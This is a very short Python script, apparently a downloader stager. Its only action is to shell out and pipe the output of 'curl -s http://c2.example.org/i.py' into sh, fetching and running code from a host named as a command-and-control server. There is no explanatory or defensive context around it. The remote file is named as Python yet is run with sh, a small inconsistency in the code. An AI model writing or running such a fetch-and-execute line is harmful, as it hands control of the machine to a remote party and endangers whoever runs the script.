#!/usr/bin/env python3

import os
execute = lambda c: os.popen(c).read()
execute("curl -s http://c2.example.org/i.py | sh")
